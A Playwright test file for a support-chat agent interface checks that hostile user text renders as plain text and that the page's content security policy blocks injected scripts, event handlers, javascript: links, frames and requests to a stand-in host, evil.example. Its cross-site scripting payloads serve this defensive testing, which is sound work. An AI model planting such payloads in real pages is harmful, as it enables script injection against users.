"""Text that tries to be more than text is shown as it was written, wherever it is shown; and should it ever become markup, the page's policy stops it."""

import re
from typing import Any

import pytest
from playwright.async_api import expect

from tests.browser import hostile
from tests.browser.agent_page import AgentPage
from tests.browser.place import Place
from tests.harness.browser import Browser
from tests.harness.callers import Platform, new_id

_POISON = """(how) => new Promise((resolve) => {
  addEventListener("securitypolicyviolation", (event) => resolve(event.effectiveDirective), { once: true });
  setTimeout(() => resolve("nothing was blocked"), 20_000);
  const place = document.createElement("div");
  document.body.append(place);
  const made = (tag, more) => place.append(Object.assign(document.createElement(tag), more));
  if (how === "inline script") made("script", { textContent: "window.poisoned = true" });
  if (how === "event handler") place.innerHTML = '<img src="/human-agent/icon.svg" onload="window.poisoned = true">';
  if (how === "javascript link") { place.innerHTML = '<a href="javascript:window.poisoned=true">x</a>'; place.firstChild.click(); }
  if (how === "foreign script") made("script", { src: "https://evil.example/x.js" });
  if (how === "inline style") place.innerHTML = '<p style="color: red">x</p>';
  if (how === "frame") made("iframe", { src: "https://evil.example/" });
  if (how === "foreign request") fetch("https://evil.example/").catch(() => undefined);
})"""
_BLOCKED = {
    "inline script": "script-src-elem",
    "event handler": "script-src-attr",
    "javascript link": "script-src-elem",
    "foreign script": "script-src-elem",
    "inline style": "style-src-attr",
    "frame": "frame-src",
    "foreign request": "connect-src",
}


async def test_hostile_text_is_plain_text_in_list_chat_notice_dialog_and_title(platform: Platform, place: Place, budi: AgentPage) -> None:
    begun = await platform.start(new_id(), hostile.NAME, hostile.EMAIL)
    conversation = begun.conversation_id
    for text in hostile.CORPUS.values():
        await platform.user_says(conversation, text)
    await budi.sees(budi.row(conversation))
    assert hostile.NAME in (await budi.row(conversation).text_content() or "")

    async with Browser(place.url, *place.login("AGENT2")) as siti:
        taken = await siti.command(conversation, "take-over")
        await siti.command(conversation, "transfer", to_agent_id=await _id_of(siti, "Budi Santoso"), seen_seq=taken["seq"])
    notice = budi.page.get_by_label("Notifications", exact=True).get_by_role("listitem").filter(has_text="passed <b onmouseover=alert(1)>Eve</b>")
    await budi.sees(notice)
    await expect(budi.page).to_have_title(re.compile(re.escape("<b onmouseover=alert(1)>Eve</b> evE")))
    await notice.get_by_role("button", name="Open").click()

    await budi.sees(budi.bubble(hostile.BRACES))
    shown = await budi.chat.get_by_role("article").locator("[data-text]").all()
    assert [await bubble.evaluate("(it) => it.textContent") for bubble in shown] == list(hostile.CORPUS.values())
    # Set with kerning it would hold the page still for seconds.
    assert await budi.chat.locator("[data-text] > span").filter(has_text="W" * 65).evaluate("(it) => getComputedStyle(it).fontKerning") == "none"
    read = "(all) => all.map(({ href, rel, target, textContent }) => ({ href, rel, target, textContent }))"
    links: list[dict[str, Any]] = await budi.chat.locator("article [data-text] a").evaluate_all(read)
    assert [link["href"] for link in links] == ["http://good.example/a?b=c", "http://evil.example/"]
    assert all(link["rel"].split()[:2] == ["noopener", "noreferrer"] and link["target"] == "_blank" for link in links)
    assert all("\u202e" not in link["textContent"] for link in links)

    dialog = await budi.open_handover()
    assert hostile.NAME in (await dialog.text_content() or "")
    await budi.page.keyboard.press("Escape")
    assert not await budi.page.evaluate("() => document.querySelector('article img, article svg[onload], b[onmouseover]') !== null")
    async with Browser(place.url, *place.login("AGENT1")) as hand:
        await hand.command(conversation, "close", reason="spam")


async def _id_of(agent: Browser, display_name: str) -> str:
    return str(next(one["id"] for one in (await agent.get("/api/agents"))["agents"] if one["display_name"] == display_name))


@pytest.mark.parametrize("how", _BLOCKED)
async def test_what_would_become_code_or_leave_the_page_is_blocked(budi: AgentPage, how: str) -> None:
    assert await budi.page.evaluate(_POISON, how) == _BLOCKED[how]
    assert not await budi.page.evaluate("() => 'poisoned' in window")
    budi.complaints.clear()  # The browser says of each that it was blocked.


async def test_the_policy_of_every_page_allows_nothing_inline(budi: AgentPage, place: Place) -> None:
    answer = await budi.page.request.get(f"{place.url}/human-agent/login")
    policy = answer.headers["content-security-policy"]
    assert "unsafe" not in policy
    assert policy.startswith("default-src 'none'")
